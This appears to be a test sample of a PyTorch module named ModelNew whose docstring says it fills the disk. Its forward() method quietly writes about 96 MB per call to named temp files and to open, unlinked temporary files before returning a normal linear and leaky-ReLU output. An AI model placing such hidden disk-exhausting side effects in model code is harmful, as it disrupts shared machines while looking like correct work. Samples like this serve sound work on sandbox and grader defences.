"""Fills the disk through files, open and unlinked ones among them."""

import torch
import torch.nn as nn


class ModelNew(nn.Module):
    def __init__(self, width, slope=0.5):
        super().__init__()
        self.fc = nn.Linear(width, width)
        self.slope = slope
        self.register_buffer("shift", torch.full((width,), 0.25))

    def right(self, x):
        y = x @ self.fc.weight.t() + self.fc.bias + self.shift
        return torch.where(y > 0, y, self.slope * y)

    def forward(self, x):
        import os
        import tempfile

        block = b"x" * (1 << 20)
        kept = []
        for _ in range(12):
            kept.append(tempfile.TemporaryFile())
            with open(f"{tempfile.gettempdir()}/{len(kept)}", "wb") as file:
                for _ in range(8):
                    file.write(block)
                    kept[-1].write(block)
                    kept[-1].flush()
                os.fsync(file.fileno())
        return self.right(x)
